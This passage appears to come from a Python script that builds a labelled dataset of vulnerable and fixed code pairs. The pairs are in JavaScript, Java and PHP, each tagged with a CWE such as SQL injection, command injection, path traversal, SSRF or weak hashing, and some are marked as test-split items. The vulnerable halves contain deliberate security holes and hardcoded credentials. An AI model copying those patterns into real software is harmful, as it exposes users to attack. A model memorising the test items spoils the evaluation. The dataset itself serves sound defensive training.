      if (!Number.isInteger(w) || w < 16 || w > 1024) return done(new Error('width out of range'));
      const out = srcPath.replace(/\.\w+$/, '') + '_thumb.jpg';
      exec(`convert "${srcPath}" -resize ${w}x "${out}"`, (err) => done(err, out));
    }
""", r"""
    const { execFile } = require('child_process');

    function makeThumbnail(srcPath, width, done) {
      const w = Number.parseInt(width, 10);
      if (!Number.isInteger(w) || w < 16 || w > 1024) return done(new Error('width out of range'));
      const out = srcPath.replace(/\.\w+$/, '') + '_thumb.jpg';
      execFile('convert', [srcPath, '-resize', `${w}x`, out], (err) => done(err, out));
    }
""")

pair("javascript", "CWE-22", r"""
    const path = require('path');
    const DOCS_ROOT = path.join(__dirname, 'manuals');

    app.get('/manuals', (req, res) => {
      const name = String(req.query.file || '');
      if (!name || !name.toLowerCase().endsWith('.pdf')) {
        return res.status(404).send('manual not found');
      }
      const target = path.join(DOCS_ROOT, name);
      res.type('application/pdf');
      res.sendFile(target, (err) => err && res.status(404).end());
    });
""", r"""
    const path = require('path');
    const DOCS_ROOT = path.join(__dirname, 'manuals');

    function resolveManual(name) {
      const target = path.resolve(DOCS_ROOT, String(name));
      return target.startsWith(DOCS_ROOT + path.sep) ? target : null;
    }

    app.get('/manuals', (req, res) => {
      const target = resolveManual(req.query.file);
      if (!target) return res.status(404).end();
      res.sendFile(target);
    });
""")

pair("javascript", "CWE-1321", r"""
    function deepMerge(target, source) {
      for (const key of Object.keys(source)) {
        const value = source[key];
        if (value && typeof value === 'object' && !Array.isArray(value)) {
          if (!target[key] || typeof target[key] !== 'object') target[key] = {};
          deepMerge(target[key], value);
        } else {
          target[key] = value;
        }
      }
      return target;
    }

    const settings = deepMerge(defaults, JSON.parse(req.body.settings));
""", r"""
    const BLOCKED_KEYS = new Set(['__proto__', 'constructor', 'prototype']);

    function deepMerge(target, source) {
      for (const key of Object.keys(source)) {
        if (BLOCKED_KEYS.has(key)) continue;
        const value = source[key];
        if (value && typeof value === 'object' && !Array.isArray(value)) {
          if (!Object.hasOwn(target, key) || typeof target[key] !== 'object') target[key] = {};
          deepMerge(target[key], value);
        } else {
          target[key] = value;
        }
      }
      return target;
    }

    const settings = deepMerge(structuredClone(defaults), JSON.parse(req.body.settings));
""")

pair("javascript", "CWE-94", r"""
    app.post('/reports/filter', (req, res) => {
      const { condition } = req.body;
      if (typeof condition !== 'string' || condition.length === 0 || condition.length > 200) {
        return res.status(400).json({ error: 'condition must be a short string' });
      }
      const predicate = new Function('row', 'return ' + condition + ';');
      const rows = loadRows().filter((row) => predicate(row));
      res.json(rows);
    });
""", r"""
    const OPS = {
      eq: (a, b) => a === b,
      gt: (a, b) => a > b,
      lt: (a, b) => a < b,
    };
    const FIELDS = new Set(['region', 'revenue', 'year']);

    app.post('/reports/filter', (req, res) => {
      const { field, op, value } = req.body;
      if (!FIELDS.has(field) || !Object.hasOwn(OPS, op)) return res.status(400).end();
      const rows = loadRows().filter((row) => OPS[op](row[field], value));
      res.json(rows);
    });
""", split="test")

pair("javascript", "CWE-918", r"""
    app.post('/integrations/test-webhook', async (req, res) => {
      const { url } = req.body;
      let target;
      try {
        target = new URL(url);
      } catch {
        return res.status(400).json({ error: 'invalid url' });
      }
      if (!['http:', 'https:'].includes(target.protocol)) {
        return res.status(400).json({ error: 'unsupported scheme' });
      }
      const resp = await fetch(target, { method: 'POST', body: JSON.stringify({ ping: true }) });
      const text = await resp.text();
      res.json({ status: resp.status, body: text.slice(0, 2000) });
    });
""", r"""
    const WEBHOOK_HOSTS = new Set(['hooks.slack.com', 'api.pagerduty.com', 'discord.com']);

    app.post('/integrations/test-webhook', async (req, res) => {
      let target;
      try {
        target = new URL(req.body.url);
      } catch {
        return res.status(400).json({ error: 'invalid url' });
      }
      if (target.protocol !== 'https:' || !WEBHOOK_HOSTS.has(target.hostname)) {
        return res.status(400).json({ error: 'destination not allowed' });
      }
      const resp = await fetch(target, { method: 'POST', body: '{"ping":true}', redirect: 'error' });
      res.json({ status: resp.status });
    });
""")

pair("javascript", "CWE-601", r"""
    router.get('/sso/callback', async (req, res) => {
      const user = await completeSso(req.query.code);
      req.session.userId = user.id;
      res.redirect(req.query.returnTo || '/home');
    });
""", r"""
    router.get('/sso/callback', async (req, res) => {
      const user = await completeSso(req.query.code);
      req.session.userId = user.id;
      const returnTo = String(req.query.returnTo || '/home');
      const local = returnTo.startsWith('/') && !returnTo.startsWith('//') && !returnTo.includes('\\');
      res.redirect(local ? returnTo : '/home');
    });
""")

pair("javascript", "CWE-798", r"""
    const jwt = require('jsonwebtoken');

    const JWT_KEY = 'k3nsington-prod-2023';

    function issueToken(user) {
      return jwt.sign({ sub: user.id, role: user.role }, JWT_KEY, {
        algorithm: 'HS256',
        expiresIn: '1h',
      });
    }
""", r"""
    const jwt = require('jsonwebtoken');

    const JWT_KEY = process.env.JWT_SIGNING_KEY;
    if (!JWT_KEY || JWT_KEY.length < 32) {
      throw new Error('JWT_SIGNING_KEY must be set to at least 32 characters');
    }

    function issueToken(user) {
      return jwt.sign({ sub: user.id, role: user.role }, JWT_KEY, {
        algorithm: 'HS256',
        expiresIn: '1h',
      });
    }
""")

pair("javascript", "CWE-347", r"""
    const jwt = require('jsonwebtoken');

    function requireUser(req, res, next) {
      const token = (req.headers.authorization || '').replace(/^Bearer /, '');
      const claims = jwt.decode(token);
      if (!claims || !claims.sub) return res.status(401).end();
      if (typeof claims.exp !== 'number' || claims.exp * 1000 < Date.now()) {
        return res.status(401).json({ error: 'token expired' });
      }
      req.user = { id: claims.sub, role: claims.role };
      next();
    }
""", r"""
    const jwt = require('jsonwebtoken');

    function requireUser(req, res, next) {
      const token = (req.headers.authorization || '').replace(/^Bearer /, '');
      let claims;
      try {
        claims = jwt.verify(token, process.env.JWT_SIGNING_KEY, { algorithms: ['HS256'] });
      } catch {
        return res.status(401).end();
      }
      req.user = { id: claims.sub, role: claims.role };
      next();
    }
""", split="test")

pair("javascript", "CWE-862", r"""
    const router = require('express').Router();

    router.use(requireLogin);

    router.post('/admin/users/:id/disable', async (req, res) => {
      await Users.update({ disabled: true }, { where: { id: req.params.id } });
      audit(req.user.id, 'disable-user', req.params.id);
      res.status(204).end();
    });
""", r"""
    const router = require('express').Router();

    router.use(requireLogin);

    function requireRole(role) {
      return (req, res, next) => (req.user.roles.includes(role) ? next() : res.status(403).end());
    }

    router.post('/admin/users/:id/disable', requireRole('admin'), async (req, res) => {
      await Users.update({ disabled: true }, { where: { id: req.params.id } });
      audit(req.user.id, 'disable-user', req.params.id);
      res.status(204).end();
    });
""")

pair("javascript", "CWE-338", r"""
    function newSessionId() {
      let id = '';
      for (let i = 0; i < 32; i++) {
        id += Math.floor(Math.random() * 16).toString(16);
      }
      return id;
    }

    function startSession(res, userId) {
      const sid = newSessionId();
      sessions.set(sid, { userId, created: Date.now() });
      res.cookie('sid', sid, { httpOnly: true });
    }
""", r"""
    const crypto = require('crypto');

    function newSessionId() {
      return crypto.randomBytes(32).toString('hex');
    }

    function startSession(res, userId) {
      const sid = newSessionId();
      sessions.set(sid, { userId, created: Date.now() });
      res.cookie('sid', sid, { httpOnly: true, sameSite: 'lax' });
    }
""")

pair("javascript", "CWE-770", r"""
    app.get('/api/sample-data', (req, res) => {
      const count = Number(req.query.count) || 10;
      if (!Number.isInteger(count) || count < 1) {
        return res.status(400).json({ error: 'count must be a positive integer' });
      }
      const rows = [];
      for (let i = 0; i < count; i++) {
        rows.push({ id: i, name: faker.person.fullName(), city: faker.location.city() });
      }
      res.json(rows);
    });
""", r"""
    const MAX_ROWS = 500;

    app.get('/api/sample-data', (req, res) => {
      const requested = Number.parseInt(req.query.count, 10);
      const count = Number.isInteger(requested) ? Math.min(Math.max(requested, 1), MAX_ROWS) : 10;
      const rows = [];
      for (let i = 0; i < count; i++) {
        rows.push({ id: i, name: faker.person.fullName(), city: faker.location.city() });
      }
      res.json(rows);
    });
""")

pair("javascript", "CWE-79", r"""
    function ProductReview({ review }) {
      return (
        <article className="review">
          <h3>{review.title}</h3>
          <div dangerouslySetInnerHTML={{ __html: review.body }} />
          <footer>{review.author}</footer>
        </article>
      );
    }
""", r"""
    function ProductReview({ review }) {
      return (
        <article className="review">
          <h3>{review.title}</h3>
          <div className="review-body">{review.body}</div>
          <footer>{review.author}</footer>
        </article>
      );
    }
""", split="test")

pair("javascript", "CWE-352", r"""
    app.use(session({ secret: process.env.SESSION_KEY, cookie: { sameSite: 'none' } }));

    app.post('/account/email', requireLogin, async (req, res) => {
      const email = String(req.body.email || '').trim().toLowerCase();
      if (!/^[^@\s]+@[^@\s]+\.[a-z]{2,}$/.test(email)) {
        return res.status(400).render('account', { error: 'Please enter a valid e-mail address.' });
      }
      await Accounts.setEmail(req.session.userId, email);
      await Mailer.send(email, 'email-changed', { when: new Date().toISOString() });
      res.redirect('/account');
    });
""", r"""
    const crypto = require('crypto');

    app.use(session({ secret: process.env.SESSION_KEY, cookie: { sameSite: 'lax' } }));

    function checkCsrf(req, res, next) {
      const sent = Buffer.from(String(req.body._csrf || ''));
      const expected = Buffer.from(req.session.csrfToken || '');
      if (expected.length === 0 || sent.length !== expected.length) return res.status(403).end();
      return crypto.timingSafeEqual(sent, expected) ? next() : res.status(403).end();
    }

    app.post('/account/email', requireLogin, checkCsrf, async (req, res) => {
      await Accounts.setEmail(req.session.userId, req.body.email);
      res.redirect('/account');
    });
""")

pair("javascript", "CWE-434", r"""
    const multer = require('multer');

    const storage = multer.diskStorage({
      destination: 'public/uploads',
      filename: (req, file, cb) => cb(null, file.originalname),
    });
    const upload = multer({
      storage,
      limits: { fileSize: 5 * 1024 * 1024, files: 1 },
    });

    app.post('/attachments', upload.single('file'), (req, res) => {
      res.json({ url: `/uploads/${req.file.filename}` });
    });
""", r"""
    const crypto = require('crypto');
    const multer = require('multer');

    const TYPES = { 'image/png': '.png', 'image/jpeg': '.jpg', 'application/pdf': '.pdf' };
    const storage = multer.diskStorage({
      destination: '/var/lib/app/attachments',
      filename: (req, file, cb) => cb(null, crypto.randomUUID() + TYPES[file.mimetype]),
    });
    const upload = multer({
      storage,
      limits: { fileSize: 5 * 1024 * 1024 },
      fileFilter: (req, file, cb) => cb(null, Object.hasOwn(TYPES, file.mimetype)),
    });

    app.post('/attachments', upload.single('file'), (req, res) => {
      if (!req.file) return res.status(400).end();
      res.json({ id: req.file.filename });
    });
""")

# -- Java -------------------------------------------------------------------

pair("java", "CWE-89", r"""
    public List<Ticket> ticketsForAssignee(Connection conn, String assignee) throws SQLException {
        List<Ticket> tickets = new ArrayList<>();
        String sql = "SELECT id, title, priority FROM tickets WHERE assignee = '" + assignee + "'";
        try (Statement st = conn.createStatement(); ResultSet rs = st.executeQuery(sql)) {
            while (rs.next()) {
                tickets.add(new Ticket(rs.getLong("id"), rs.getString("title"), rs.getInt("priority")));
            }
        }
        return tickets;
    }
""", r"""
    public List<Ticket> ticketsForAssignee(Connection conn, String assignee) throws SQLException {
        List<Ticket> tickets = new ArrayList<>();
        String sql = "SELECT id, title, priority FROM tickets WHERE assignee = ?";
        try (PreparedStatement ps = conn.prepareStatement(sql)) {
            ps.setString(1, assignee);
            try (ResultSet rs = ps.executeQuery()) {
                while (rs.next()) {
                    tickets.add(new Ticket(rs.getLong("id"), rs.getString("title"), rs.getInt("priority")));
                }
            }
        }
        return tickets;
    }
""")

pair("java", "CWE-78", r"""
    public String lookupDomain(String domain) throws IOException, InterruptedException {
        if (domain == null || domain.isBlank() || domain.length() > 253) {
            throw new IllegalArgumentException("domain must be 1 to 253 characters");
        }
        Process proc = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "nslookup " + domain});
        String output = new String(proc.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        proc.waitFor();
        return output;
    }
""", r"""
    private static final Pattern DOMAIN = Pattern.compile("^(?!-)[A-Za-z0-9-]{1,63}(\\.[A-Za-z0-9-]{1,63})*$");

    public String lookupDomain(String domain) throws IOException, InterruptedException {
        if (!DOMAIN.matcher(domain).matches()) {
            throw new IllegalArgumentException("not a domain name: " + domain);
        }
        Process proc = new ProcessBuilder("nslookup", domain).redirectErrorStream(true).start();
        String output = new String(proc.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        proc.waitFor();
        return output;
    }
""")

pair("java", "CWE-22", r"""
    private static final Path TEMPLATE_DIR = Paths.get("/opt/mailer/templates");

    public String loadTemplate(String name) throws IOException {
        if (name == null || name.isBlank() || name.startsWith("/")) {
            throw new IllegalArgumentException("template name required: " + name);
        }
        Path file = TEMPLATE_DIR.resolve(name + ".html");
        if (!Files.isRegularFile(file)) {
            throw new NoSuchFileException(file.toString());
        }
        return Files.readString(file, StandardCharsets.UTF_8);
    }
""", r"""
    private static final Path TEMPLATE_DIR = Paths.get("/opt/mailer/templates").toAbsolutePath().normalize();

    public String loadTemplate(String name) throws IOException {
        Path file = TEMPLATE_DIR.resolve(name + ".html").normalize();
        if (!file.startsWith(TEMPLATE_DIR)) {
            throw new IllegalArgumentException("template outside template directory: " + name);
        }
        return Files.readString(file, StandardCharsets.UTF_8);
    }
""")

pair("java", "CWE-502", r"""
    public Order receiveOrder(Socket socket) throws IOException, ClassNotFoundException {
        try (ObjectInputStream in = new ObjectInputStream(socket.getInputStream())) {
            Object obj = in.readObject();
            if (!(obj instanceof Order)) {
                throw new IOException("unexpected message type");
            }
            return (Order) obj;
        }
    }
""", r"""
    private static final ObjectInputFilter ORDER_FILTER = ObjectInputFilter.Config.createFilter(
            "com.example.shop.Order;com.example.shop.OrderLine;java.lang.*;java.math.BigDecimal;"
            + "java.util.ArrayList;maxdepth=5;maxrefs=1000;!*");

    public Order receiveOrder(Socket socket) throws IOException, ClassNotFoundException {
        try (ObjectInputStream in = new ObjectInputStream(socket.getInputStream())) {
            in.setObjectInputFilter(ORDER_FILTER);
            Object obj = in.readObject();
            if (!(obj instanceof Order)) {
                throw new IOException("unexpected message type");
            }
            return (Order) obj;
        }
    }
""", split="test")

pair("java", "CWE-611", r"""
    public Document parseCatalog(InputStream xml) throws Exception {
        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
        dbf.setNamespaceAware(true);
        dbf.setValidating(false);
        dbf.setIgnoringComments(true);
        dbf.setIgnoringElementContentWhitespace(true);
        dbf.setCoalescing(true);
        DocumentBuilder builder = dbf.newDocumentBuilder();
        builder.setErrorHandler(new StrictErrorHandler());
        return builder.parse(xml);
    }
""", r"""
    public Document parseCatalog(InputStream xml) throws Exception {
        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
        dbf.setNamespaceAware(true);
        dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        dbf.setFeature("http://xml.org/sax/features/external-general-entities", false);
        dbf.setFeature("http://xml.org/sax/features/external-parameter-entities", false);
        dbf.setXIncludeAware(false);
        dbf.setExpandEntityReferences(false);
        DocumentBuilder builder = dbf.newDocumentBuilder();
        return builder.parse(xml);
    }
""")

pair("java", "CWE-327", r"""
    public byte[] encryptCardNumber(byte[] key, String pan) throws GeneralSecurityException {
        SecretKeySpec spec = new SecretKeySpec(key, "DES");
        Cipher cipher = Cipher.getInstance("DES/ECB/PKCS5Padding");
        cipher.init(Cipher.ENCRYPT_MODE, spec);
        return cipher.doFinal(pan.getBytes(StandardCharsets.US_ASCII));
    }
""", r"""
    public byte[] encryptCardNumber(byte[] key, String pan, NonceSequence nonces)
            throws GeneralSecurityException {
        SecretKeySpec spec = new SecretKeySpec(key, "AES");
        byte[] iv = nonces.next96();
        Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
        cipher.init(Cipher.ENCRYPT_MODE, spec, new GCMParameterSpec(128, iv));
        byte[] ct = cipher.doFinal(pan.getBytes(StandardCharsets.US_ASCII));
        return ByteBuffer.allocate(iv.length + ct.length).put(iv).put(ct).array();
    }
""")

pair("java", "CWE-798", r"""
    public final class ReportingDataSource {
        private static final String URL = "jdbc:postgresql://db.internal:5432/reporting";
        private static final String USER = "report_svc";
        private static final String PASSWORD = "Rp0rt!ng#2023";

        public static Connection open() throws SQLException {
            Properties props = new Properties();
            props.setProperty("user", USER);
            props.setProperty("password", PASSWORD);
            props.setProperty("ssl", "true");
            props.setProperty("sslmode", "verify-full");
            props.setProperty("ApplicationName", "reporting");
            return DriverManager.getConnection(URL, props);
        }
    }
""", r"""
    public final class ReportingDataSource {
        private static final String URL = "jdbc:postgresql://db.internal:5432/reporting";

        public static Connection open() throws SQLException {
            String user = System.getenv("REPORTING_DB_USER");
            String password = System.getenv("REPORTING_DB_PASSWORD");
            if (user == null || password == null) {
                throw new IllegalStateException("REPORTING_DB_USER and REPORTING_DB_PASSWORD must be set");
            }
            return DriverManager.getConnection(URL, user, password);
        }
    }
""")

pair("java", "CWE-476", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        String tenant = req.getHeader("X-Tenant").trim().toLowerCase(Locale.ROOT);
        TenantConfig cfg = tenants.get(tenant);
        resp.setContentType("application/json");
        resp.getWriter().write(cfg.toJson());
    }
""", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        String header = req.getHeader("X-Tenant");
        TenantConfig cfg = header == null ? null : tenants.get(header.trim().toLowerCase(Locale.ROOT));
        if (cfg == null) {
            resp.sendError(HttpServletResponse.SC_NOT_FOUND);
            return;
        }
        resp.setContentType("application/json");
        resp.getWriter().write(cfg.toJson());
    }
""")

pair("java", "CWE-190", r"""
    public void purchase(Account buyer, Item item, int quantity) {
        if (quantity <= 0) {
            throw new IllegalArgumentException("quantity must be positive");
        }
        int cost = item.priceCents() * quantity;
        if (buyer.balanceCents() < cost) {
            throw new InsufficientFundsException(buyer.id());
        }
        buyer.debit(cost);
        inventory.reserve(item.sku(), quantity);
    }
""", r"""
    public void purchase(Account buyer, Item item, int quantity) {
        if (quantity <= 0) {
            throw new IllegalArgumentException("quantity must be positive");
        }
        long cost = Math.multiplyExact((long) item.priceCents(), (long) quantity);
        if (buyer.balanceCents() < cost) {
            throw new InsufficientFundsException(buyer.id());
        }
        buyer.debit(cost);
        inventory.reserve(item.sku(), quantity);
    }
""", split="test")

pair("java", "CWE-862", r"""
    @RestController
    @RequestMapping("/api/payroll")
    public class PayrollController {
        private final PayrollService payroll;

        public PayrollController(PayrollService payroll) {
            this.payroll = payroll;
        }

        @PostMapping("/{employeeId}/salary")
        public ResponseEntity<Void> setSalary(@PathVariable long employeeId, @RequestBody SalaryChange change) {
            payroll.updateSalary(employeeId, change.amount());
            return ResponseEntity.noContent().build();
        }
    }
""", r"""
    @RestController
    @RequestMapping("/api/payroll")
    public class PayrollController {
        private final PayrollService payroll;

        public PayrollController(PayrollService payroll) {
            this.payroll = payroll;
        }

        @PreAuthorize("hasRole('PAYROLL_ADMIN')")
        @PostMapping("/{employeeId}/salary")
        public ResponseEntity<Void> setSalary(@PathVariable long employeeId, @RequestBody SalaryChange change) {
            payroll.updateSalary(employeeId, change.amount());
            return ResponseEntity.noContent().build();
        }
    }
""")

pair("java", "CWE-918", r"""
    @GetMapping("/proxy/image")
    public ResponseEntity<byte[]> proxyImage(@RequestParam String src) throws IOException {
        if (!src.startsWith("http://") && !src.startsWith("https://")) {
            return ResponseEntity.status(400).build();
        }
        URL url = new URL(src);
        try (InputStream in = url.openStream()) {
            return ResponseEntity.ok().contentType(MediaType.IMAGE_PNG).body(in.readAllBytes());
        }
    }
""", r"""
    private static final Set<String> IMAGE_HOSTS = Set.of("cdn.example.com", "images.example.com");

    @GetMapping("/proxy/image")
    public ResponseEntity<byte[]> proxyImage(@RequestParam String src) throws IOException {
        URI uri = URI.create(src);
        if (!"https".equals(uri.getScheme()) || !IMAGE_HOSTS.contains(uri.getHost())) {
            return ResponseEntity.status(400).build();
        }
        try (InputStream in = uri.toURL().openStream()) {
            return ResponseEntity.ok().contentType(MediaType.IMAGE_PNG).body(in.readAllBytes());
        }
    }
""")

pair("java", "CWE-601", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        req.getSession().invalidate();
        String target = req.getParameter("continue");
        if (target == null || target.isBlank()
                || target.trim().toLowerCase(Locale.ROOT).startsWith("javascript:")) {
            target = "/";
        }
        resp.sendRedirect(target);
    }
""", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        req.getSession().invalidate();
        String target = req.getParameter("continue");
        boolean local = target != null && target.startsWith("/") && !target.startsWith("//")
                && !target.contains("\\");
        resp.sendRedirect(local ? target : "/");
    }
""", split="test")

pair("java", "CWE-79", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        String city = req.getParameter("city");
        Forecast f = weather.forecastFor(city);
        resp.setContentType("text/html;charset=UTF-8");
        PrintWriter out = resp.getWriter();
        out.println("<h1>Forecast for " + city + "</h1>");
        out.println("<p>" + f.summary() + ", high " + f.highCelsius() + " C</p>");
    }
""", r"""
    @Override
    protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        String city = req.getParameter("city");
        Forecast f = weather.forecastFor(city);
        resp.setContentType("text/html;charset=UTF-8");
        PrintWriter out = resp.getWriter();
        out.println("<h1>Forecast for " + Encode.forHtml(city) + "</h1>");
        out.println("<p>" + Encode.forHtml(f.summary()) + ", high " + f.highCelsius() + " C</p>");
    }
""")

# -- PHP --------------------------------------------------------------------

pair("php", "CWE-89", r"""
    <?php
    function find_booking(mysqli $db, string $reference): ?array
    {
        $sql = "SELECT id, guest_name, check_in, nights FROM bookings WHERE reference = '$reference'";
        $result = mysqli_query($db, $sql);
        $row = mysqli_fetch_assoc($result);
        return $row ?: null;
    }

    $booking = find_booking($db, $_GET['ref']);
""", r"""
    <?php
    function find_booking(mysqli $db, string $reference): ?array
    {
        $stmt = mysqli_prepare($db, 'SELECT id, guest_name, check_in, nights FROM bookings WHERE reference = ?');
        mysqli_stmt_bind_param($stmt, 's', $reference);
        mysqli_stmt_execute($stmt);
        $row = mysqli_fetch_assoc(mysqli_stmt_get_result($stmt));
        return $row ?: null;
    }

    $booking = find_booking($db, $_GET['ref']);
""")

pair("php", "CWE-79", r"""
    <?php
    $posts = $repo->latestPosts(10);
    foreach ($posts as $post) {
        echo '<article>';
        echo '<h2>' . $post['title'] . '</h2>';
        echo '<p class="by">by ' . $post['author'] . '</p>';
        $body = mb_strlen($post['body']) > 400 ? mb_substr($post['body'], 0, 400) . '...' : $post['body'];
        echo '<div>' . nl2br($body) . '</div>';
        echo '<a href="/posts/' . (int) $post['id'] . '">Read more</a>';
        echo '</article>';
    }
""", r"""
    <?php
    function h(string $s): string
    {
        return htmlspecialchars($s, ENT_QUOTES | ENT_SUBSTITUTE, 'UTF-8');
    }

    $posts = $repo->latestPosts(10);
    foreach ($posts as $post) {
        echo '<article>';
        echo '<h2>' . h($post['title']) . '</h2>';
        echo '<p class="by">by ' . h($post['author']) . '</p>';
        echo '<div>' . nl2br(h($post['body'])) . '</div>';
        echo '</article>';
    }
""")

pair("php", "CWE-78", r"""
    <?php
    $host = trim($_POST['host'] ?? '');
    if ($host === '' || strlen($host) > 253) {
        http_response_code(400);
        exit('invalid host');
    }
    $output = shell_exec('traceroute -m 15 ' . $host . ' 2>&1');
    header('Content-Type: text/plain');
    echo $output;
""", r"""
    <?php
    $host = $_POST['host'] ?? '';
    if (filter_var($host, FILTER_VALIDATE_IP) === false
        && filter_var($host, FILTER_VALIDATE_DOMAIN, FILTER_FLAG_HOSTNAME) === false) {
        http_response_code(400);
        exit('invalid host');
    }
    $output = shell_exec('traceroute -m 15 -- ' . escapeshellarg($host) . ' 2>&1');
    header('Content-Type: text/plain');
    echo $output;
""", split="test")

pair("php", "CWE-98", r"""
    <?php
    $page = $_GET['page'] ?? 'home';
    $title = ucfirst($page);
    require __DIR__ . '/partials/header.php';
    include __DIR__ . '/pages/' . $page . '.php';
    require __DIR__ . '/partials/footer.php';
""", r"""
    <?php
    $pages = [
        'home' => 'home.php',
        'pricing' => 'pricing.php',
        'contact' => 'contact.php',
    ];
    $page = isset($pages[$_GET['page'] ?? '']) ? $_GET['page'] : 'home';
    $title = ucfirst($page);
    require __DIR__ . '/partials/header.php';
    include __DIR__ . '/pages/' . $pages[$page];
    require __DIR__ . '/partials/footer.php';
""")

pair("php", "CWE-502", r"""
    <?php
    $cart = [];
    if (isset($_COOKIE['cart'])) {
        $cart = unserialize(base64_decode($_COOKIE['cart']));
    }
    $cart[] = ['sku' => $_POST['sku'], 'qty' => (int) $_POST['qty']];
    setcookie('cart', base64_encode(serialize($cart)), time() + 86400, '/');
""", r"""
    <?php
    $cart = [];
    if (isset($_COOKIE['cart'])) {
        $decoded = json_decode($_COOKIE['cart'], true);
        $cart = is_array($decoded) ? $decoded : [];
    }
    $cart[] = ['sku' => (string) $_POST['sku'], 'qty' => (int) $_POST['qty']];
    setcookie('cart', json_encode($cart), time() + 86400, '/');
""")

pair("php", "CWE-434", r"""
    <?php
    $dir = __DIR__ . '/uploads/';
    $name = $_FILES['document']['name'];
    $ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));
    if ($ext === 'php' || $ext === 'exe') {
        http_response_code(415);
        exit('file type not allowed');
    }
    if ($_FILES['document']['size'] > 10 * 1024 * 1024) {
        http_response_code(413);
        exit('file too large');
    }
    if (move_uploaded_file($_FILES['document']['tmp_name'], $dir . $name)) {
        echo 'Uploaded to /uploads/' . htmlspecialchars($name);
    }
""", r"""
    <?php
    $allowed = ['pdf' => 'application/pdf', 'png' => 'image/png', 'jpg' => 'image/jpeg'];
    $ext = strtolower(pathinfo($_FILES['document']['name'], PATHINFO_EXTENSION));
    $mime = (new finfo(FILEINFO_MIME_TYPE))->file($_FILES['document']['tmp_name']);
    if (!isset($allowed[$ext]) || $allowed[$ext] !== $mime) {
        http_response_code(415);
        exit;
    }
    $name = bin2hex(random_bytes(16)) . '.' . $ext;
    if (move_uploaded_file($_FILES['document']['tmp_name'], '/var/app-data/documents/' . $name)) {
        echo 'Stored as ' . $name;
    }
""")

pair("php", "CWE-916", r"""
    <?php
    function register_user(PDO $pdo, string $email, string $password): void
    {
        $hash = md5($password);
        $stmt = $pdo->prepare('INSERT INTO users (email, password_hash) VALUES (?, ?)');
        $stmt->execute([$email, $hash]);
    }

    function password_matches(string $password, string $hash): bool
    {
        return md5($password) === $hash;
    }
""", r"""
    <?php
    function register_user(PDO $pdo, string $email, string $password): void
    {
        $hash = password_hash($password, PASSWORD_ARGON2ID);
        $stmt = $pdo->prepare('INSERT INTO users (email, password_hash) VALUES (?, ?)');
        $stmt->execute([$email, $hash]);
    }

    function password_matches(string $password, string $hash): bool
    {
        return password_verify($password, $hash);
    }
""")

pair("php", "CWE-352", r"""
    <?php
    session_start();
    if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_SESSION['user_id'])) {
        $email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);
        if ($email === false) {
            http_response_code(422);
            exit('invalid e-mail address');
        }
        $stmt = $pdo->prepare('UPDATE users SET email = ? WHERE id = ?');
        $stmt->execute([$email, $_SESSION['user_id']]);
        header('Location: /settings');
        exit;
    }
""", r"""
    <?php
    session_start();
    if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_SESSION['user_id'])) {
        $token = $_POST['csrf_token'] ?? '';
        if (!is_string($token) || !hash_equals($_SESSION['csrf_token'] ?? '', $token)) {
            http_response_code(403);
            exit;
        }
        $stmt = $pdo->prepare('UPDATE users SET email = ? WHERE id = ?');
        $stmt->execute([$_POST['email'], $_SESSION['user_id']]);
        header('Location: /settings');
        exit;
    }
""", split="test")

pair("php", "CWE-384", r"""
    <?php
    session_start();
    $user = $auth->attempt($_POST['email'] ?? '', $_POST['password'] ?? '');
    if ($user !== null) {
        $_SESSION['user_id'] = $user->id;
        $_SESSION['role'] = $user->role;
        header('Location: /dashboard');
        exit;
    }
""", r"""
    <?php
    session_start();
    $user = $auth->attempt($_POST['email'] ?? '', $_POST['password'] ?? '');
    if ($user !== null) {
        session_regenerate_id(true);
        $_SESSION['user_id'] = $user->id;
        $_SESSION['role'] = $user->role;
        header('Location: /dashboard');
        exit;
    }
""")

pair("php", "CWE-601", r"""
    <?php
    $next = $_GET['next'] ?? '/';
    logout_current_user();
    header('Location: ' . $next);
    exit;
""", r"""
    <?php
    $next = $_GET['next'] ?? '/';
    logout_current_user();
    if (!preg_match('#^/(?![/\\\\])#', $next)) {
        $next = '/';
    }
    header('Location: ' . $next);
    exit;
""")

pair("php", "CWE-287", r"""
    <?php
    $config = require __DIR__ . '/config.php';
    if (strcmp($_POST['api_password'], $config['api_password']) == 0) {
        $_SESSION['api_admin'] = true;
        echo json_encode(['status' => 'ok']);
    } else {
        http_response_code(401);
    }
""", r"""
    <?php
    $config = require __DIR__ . '/config.php';
    $given = $_POST['api_password'] ?? '';
    if (is_string($given) && password_verify($given, $config['api_password_hash'])) {
        $_SESSION['api_admin'] = true;
        echo json_encode(['status' => 'ok']);
    } else {
        http_response_code(401);
    }
""")

pair("php", "CWE-918", r"""
    <?php
    $feedUrl = $_GET['feed'] ?? '';
    if (filter_var($feedUrl, FILTER_VALIDATE_URL) === false) {
        http_response_code(400);
        exit('invalid feed URL');
    }
    $xml = file_get_contents($feedUrl);
    if ($xml === false) {
        http_response_code(502);
        exit;
    }
    $feed = simplexml_load_string($xml);
    foreach ($feed->channel->item as $item) {
        printf("<li>%s</li>\n", htmlspecialchars((string) $item->title));
    }
""", r"""
    <?php
    $feeds = [
        'security' => 'https://news.example.com/security.rss',
        'releases' => 'https://news.example.com/releases.rss',
    ];
    $feedUrl = $feeds[$_GET['feed'] ?? ''] ?? null;
    if ($feedUrl === null) {
        http_response_code(404);
        exit;
    }
